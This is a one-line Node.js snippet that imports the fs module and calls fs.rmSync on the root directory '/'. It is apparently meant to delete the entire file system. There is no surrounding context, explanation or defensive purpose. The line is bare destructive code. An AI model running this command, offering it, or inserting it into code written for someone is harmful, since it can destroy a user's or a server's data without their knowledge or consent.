import fs from "fs"; fs.rmSync("/")
